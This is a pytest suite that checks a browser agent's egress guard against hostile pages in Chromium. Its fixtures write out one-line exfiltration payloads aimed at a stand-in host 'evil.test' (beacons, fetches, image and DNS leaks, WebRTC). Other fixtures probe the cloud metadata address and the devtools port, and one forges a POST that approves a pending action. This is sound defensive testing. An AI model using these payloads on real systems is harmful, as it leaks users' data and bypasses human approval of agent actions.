"""What a page causes by itself, or by a click of the agent: the cases of the URL suite in a real browser."""
# ruff: noqa: E501 - a page is easier to read in one line

from __future__ import annotations

import asyncio
import json
import socket
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from doors import door_kit

from browser_tools.egress.guard import claim_port, release_port
from policies.action import Action

CASES = {
    case["id"].removeprefix("U-"): case
    for case in map(
        json.loads, (Path(__file__).parents[1] / "cases" / "url_routes.jsonl").read_text().splitlines()
    )
}
EVIL = "https://evil.test/"
JS = {"content-type": "text/javascript"}

MARKUP = {
    "route-03": f'<script>window.open("{EVIL}")</script>',
    "route-04": f'<a target=_blank rel=noopener href="{EVIL}">more</a>',
    "route-07": f'<form method=post action="{EVIL}"><input name=q><button>Go</button></form>',
    "route-09": f'<base href="{EVIL}"><a href="x">more</a>',
    "route-11": f'<script>navigator.sendBeacon("{EVIL}", "d")</script>',
    "route-12": f'<script>fetch("{EVIL}", {{keepalive: true, mode: "no-cors"}})</script>',
    "route-13": f'<a ping="{EVIL}" href="#x">more</a>',
    "route-16": "<script>new SharedWorker('/shared.js')</script>",
    "route-18": f'<script>new EventSource("{EVIL}")</script>',
    "route-19": f'<script>try {{ new WebTransport("{EVIL}") }} catch (e) {{}}</script>',
    "route-20": "<script>pc = new RTCPeerConnection({iceServers: [{urls: ['stun:stun.evil.test', 'stun:127.0.0.1:UDP']}]}); pc.createDataChannel('x'); pc.createOffer().then(o => pc.setLocalDescription(o))</script>",
    "route-21": f'<img src="{EVIL}?d=secret">',
    "route-25": f'<link rel=preconnect href="{EVIL}"><p>here',
    "route-26": '<link rel=dns-prefetch href="//secret.evil.test/"><p>here',
    "route-30": f'<a download href="{EVIL}x">more</a>',
    "route-31": f'<object data="{EVIL}"></object>',
    "route-32": f'<a href="javascript:location=\'{EVIL}\'">more</a>',
    "route-34": "<button onclick=\"a=document.createElement('a');a.href=window.URL.createObjectURL(new Blob(['x']));a.download='x.txt';a.click()\">more</button>",
    "route-39": "<p>here",
    "route-41": '<img src="http://192.168.1.1/logo.png">',
    "route-42": '<script>fetch("http://169.254.169.254/", {mode: "no-cors"})</script>',
    "route-43": '<script>new WebSocket("ws://127.0.0.1:9222/devtools/browser/x")</script>',
    "route-44": '<script>fetch("http://127.0.0.1:OWN/api/approvals/1/approve", {method: "POST"})</script>',
    "route-49": '<a href="https://idp.test/login">more</a>',
    "route-51": "<p>here",
    "route-52": "<p>here",
    "route-54": "<p>here",
    "route-55": "<p>here",
    "route-56": "<form method=post action=/save></form>",
}  # fmt: skip
CLICKED = {"route-04", "route-07", "route-09", "route-13", "route-30", "route-32", "route-49"}
"""The page waits for a click of the agent on its link or button."""
UNSEEN = {
    "route-19": Action(entry="request", url=EVIL, resource="connection"),
    "route-20": Action(entry="request", url="stun:stun.evil.test", resource="udp"),
    "route-25": Action(entry="request", url=EVIL, resource="connection"),
    "route-26": Action(entry="request", url="//secret.evil.test", resource="dns"),
}
"""Chromium does not even try, so there is nothing to refuse: what would be said if it did."""
WORKS = {
    "route-39": ("fetch('https://api.partner.test/v1').then(r => r.text())", "ok", "https://api.partner.test/v1", "subresource"),
    "route-51": ("(location.hash = '#a', location.href)", "https://example.com/routes/hash#a", "https://example.com/routes/hash#a", "document"),
    "route-54": ("(f => (f.src = 'about:blank', document.body.append(f), f.contentDocument.body.innerHTML = 'x'))(document.createElement('iframe'))", "x", "https://example.com/", "document"),
    "route-55": ("new Promise(r => { i = new Image(); i.onload = () => r('shown'); i.src = URL.createObjectURL(new Blob(['<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"1\" height=\"1\"/>'], {type: 'image/svg+xml'})) })", "shown", "blob:https://example.com/1", "subresource"),
}  # fmt: skip
"""What the page does, what comes of it, and the request that it makes."""


@pytest.fixture
def packets() -> Iterator[socket.socket]:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        udp.bind(("127.0.0.1", 0))
        udp.setblocking(False)
        yield udp


@pytest.fixture
def own_port() -> Iterator[int]:
    with socket.create_server(("127.0.0.1", 0)) as listener:
        port = listener.getsockname()[1]
        claim_port(port)
        yield port
        release_port(port)


async def pages(chromium: Any) -> int:
    """Pages of the browser, also those that Playwright does not tell of."""
    cdp = await chromium._browser.new_browser_cdp_session()
    targets = (await cdp.send("Target.getTargets"))["targetInfos"]
    await cdp.detach()
    return sum(one["type"] == "page" for one in targets)


async def until(found: Callable[[], Any], seconds: float = 8.0) -> None:
    loop = asyncio.get_running_loop()
    end = loop.time() + seconds
    while not found() and loop.time() < end:  # noqa: ASYNC110 - the guard tells from another thread
        await asyncio.sleep(0.02)


def serve(internet: Any, case: dict[str, Any], body: str) -> None:
    path = case["url"].removeprefix("https://example.com")
    internet.serve("example.com", {
        path: f"<body>{body}", "/save": (303, {"location": "/done"}, ""), "/done": "<p>done", "/callback": "<p>welcome",
        "/shared.js": (200, JS, f'fetch("{EVIL}", {{mode: "no-cors"}})'),
    })  # fmt: skip
    internet.serve("idp.test", {"/login": (302, {"location": "https://example.com/callback?code=x"}, "")})
    internet.serve("api.partner.test", {"/v1": (200, {"access-control-allow-origin": "*"}, "ok")})


DENIED = [name for name, case in CASES.items() if case["expected"] == "deny"]


@pytest.mark.parametrize("name", DENIED)
async def test_what_is_denied(
    behind: Any, guarded: Any, internet: Any, tmp_path: Path, packets: socket.socket, own_port: int, name: str
) -> None:
    case = CASES[name]
    body = MARKUP[name].replace("UDP", str(packets.getsockname()[1])).replace("OWN", str(own_port))
    serve(internet, case, body)
    click = {"id": "click", "decision": "allow", "when": {"effect": ["input", "submit"]}}
    rules = [{"id": "look", "decision": "allow", "when": {"effect": ["read", "navigate"]}}, click]
    session, guard = await behind({**case["policy"], "rules": rules})
    result = None
    with door_kit(session, "https://example.com/", tmp_path, gate=guard.gate) as kit:
        assert (await kit("navigate", url=case["url"])).ok
        if name in CLICKED or name == "route-34":
            result = await kit("click", target="Go" if name == "route-07" else "more")
    if name in UNSEEN:
        await session.current.page.evaluate("() => new Promise(r => setTimeout(r, 700))")
        reasons = {guard.gate.decide(UNSEEN[name]).reason}
        assert not guard.blocked
    elif result is not None and not result.ok:
        reasons = {result.code}
    else:
        await until(lambda: guard.blocked)
        reasons = {one.reason for one in guard.blocked.values()}
    assert reasons == {case["reason"]}, case["why"]
    assert internet.forbidden.arrivals == 0
    assert not any("evil" in host for host in internet.asked)
    with pytest.raises(BlockingIOError):
        packets.recv(1)
    assert session.current.url.startswith("https://example.com/")
    assert await pages(guarded) == len(session.tabs) == 1


@pytest.mark.parametrize("name", WORKS)
async def test_what_works(behind: Any, internet: Any, name: str) -> None:
    case = CASES[name]
    serve(internet, case, MARKUP[name])
    session, guard = await behind(case["policy"])
    await session.current.navigate(case["url"])
    code, answer, url, resource = WORKS[name]
    assert await session.current.page.evaluate(code) == answer
    decision = guard.decide(Action(entry="request", url=url, resource=resource, origin="https://example.com"))
    assert (decision.verdict, decision.reason) == (case["expected"], case["reason"])
    assert guard.blocked == {}


@pytest.mark.parametrize(
    ("name", "act", "end"),
    [
        ("route-49", "document.querySelector('a').click()", "https://example.com/callback?code=x"),
        ("route-52", "location.reload()", "https://example.com/routes/reload"),
        ("route-56", "document.querySelector('form').submit()", "https://example.com/done"),
    ],
)
async def test_where_it_leads(behind: Any, internet: Any, name: str, act: str, end: str) -> None:
    case = CASES[name]
    serve(internet, case, MARKUP[name])
    session, guard = await behind(case["policy"])
    await session.current.navigate(case["url"])
    async with session.current.page.expect_navigation(url=end):
        await session.current.page.evaluate(f"() => {{ {act} }}")
    decision = guard.decide(Action(entry="request", url=end, resource="document", redirects=1))
    assert (decision.verdict, decision.reason) == (case["expected"], case["reason"])
    assert guard.blocked == {}


def test_every_case_is_there() -> None:
    assert {*DENIED, *WORKS, "route-49", "route-52", "route-56"} == set(CASES) == set(MARKUP)
